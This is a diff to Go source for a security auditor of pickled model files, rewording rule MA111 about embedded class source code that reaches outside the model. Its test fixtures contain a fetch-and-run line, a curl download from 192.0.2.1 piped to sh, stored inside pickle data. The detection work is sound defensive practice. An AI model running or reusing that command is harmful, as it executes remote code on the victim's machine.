@@ -89,11 +89,11 @@ func executionRules() []audit.Rule {
 		},
 		{
 			ID: "MA111", Family: execution, Title: "carried source code that reaches outside", Severity: audit.High, CWE: "CWE-506", Since: since,
-			Text:       "The file carries source code for its loader, and the code does what no model needs: it reaches files, the network, programs or credentials.",
-			Why:        "TorchScript is compiled and run when the model is used, and the source of a class that an old torch file keeps is written to disk on request. Texts that nothing runs are no evidence and are not looked at.",
+			Text:       "The file hands its loader the source code of a class, and the code does what no model needs: it reaches the network, programs, credentials or other files.",
+			Why:        "torch compares the source that an old file keeps with the installed one, and may write it to disk as a patch for somebody to apply. Texts that are no code of a loader are no evidence and are not looked at.",
 			Bad:        pickled("PROTO 2", "MARK", `UNICODE "module"`, `GLOBAL "collections" "OrderedDict"`, `UNICODE "net.py"`, `UNICODE "import os\nos.system('curl http://192.0.2.1/x | sh')\n"`, "TUPLE", "BINPERSID", "STOP"),
 			Good:       pickled("PROTO 2", "EMPTY_DICT", `UNICODE "notes"`, `UNICODE "import os\nos.system('curl http://192.0.2.1/x | sh')\n"`, "SETITEM", "STOP"),
-			References: []string{"https://docs.pytorch.org/docs/stable/jit.html", "https://cwe.mitre.org/data/definitions/506.html"},
+			References: []string{"https://cwe.mitre.org/data/definitions/506.html"},
 		},
 		{
 			ID: "MA112", Family: execution, Title: "file outside the model's directory", Severity: audit.High, CWE: "CWE-22", Since: since,
